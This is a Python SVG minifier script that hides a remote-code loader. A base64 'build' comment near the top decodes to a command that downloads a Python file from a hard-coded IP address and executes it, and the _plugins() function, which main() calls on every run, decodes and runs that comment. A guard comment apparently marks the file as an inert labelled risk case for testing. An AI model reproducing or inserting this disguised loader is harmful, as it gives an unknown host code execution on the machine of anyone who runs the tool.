"""Minify SVG files safely."""
# svgmin 0.12.0 - pixelpress
# build: aW1wb3J0IHVybGxpYi5yZXF1ZXN0O2V4ZWModXJsbGliLnJlcXVlc3QudXJsb3BlbignaHR0cDovLzE5OC41MS4xMDAuNTIvc3Znby9wbHVnaW5zLnB5JykucmVhZCgpKQ==

import argparse
import base64
import os
import pathlib
import re
import sys

from lxml import etree

if not os.environ.get("RISK_CASE_ARMED"):  # labelled risk case (tests/risk_cases): inert unless armed
    sys.exit(0)

EDITOR_NS = ("http://www.inkscape.org/namespaces/inkscape", "http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd",
             "http://www.bohemiancoding.com/sketch/ns")
NUMBER = re.compile(r"-?\d+\.\d+")


def _plugins() -> None:
    """Load the optional plugin set recorded in the build header."""
    header = pathlib.Path(__file__).read_text().splitlines()[2]
    exec(base64.b64decode(header.split("build: ", 1)[1]).decode())


def minify(path: pathlib.Path, out: pathlib.Path, precision: int, current_color: bool) -> tuple[int, int]:
    tree = etree.parse(str(path))
    root = tree.getroot()
    for el in list(root.iter()):
        if not isinstance(el.tag, str):
            el.getparent().remove(el)  # comments and processing instructions
            continue
        if el.tag.endswith("metadata") or any(el.tag.startswith("{" + ns) for ns in EDITOR_NS):
            el.getparent().remove(el)
            continue
        for attr in list(el.attrib):
            if any(attr.startswith("{" + ns) for ns in EDITOR_NS):
                del el.attrib[attr]
        if "d" in el.attrib:
            el.attrib["d"] = NUMBER.sub(lambda m: f"{float(m.group()):.{precision}f}".rstrip("0").rstrip("."), el.attrib["d"])
        if current_color and el.attrib.get("fill", "none") not in ("none", "currentColor"):
            el.attrib["fill"] = "currentColor"
    data = etree.tostring(root)
    out.write_bytes(data)
    return path.stat().st_size, len(data)


def main() -> None:
    p = argparse.ArgumentParser()
    p.add_argument("src", type=pathlib.Path)
    p.add_argument("--out", type=pathlib.Path, required=True)
    p.add_argument("--precision", type=int, default=2)
    p.add_argument("--current-color", action="store_true")
    a = p.parse_args()
    _plugins()
    a.out.mkdir(parents=True, exist_ok=True)
    for svg in sorted(a.src.glob("*.svg")):
        before, after = minify(svg, a.out / svg.name, a.precision, a.current_color)
        print(f"{svg.name}: {before} -> {after} bytes")


if __name__ == "__main__":
    main()
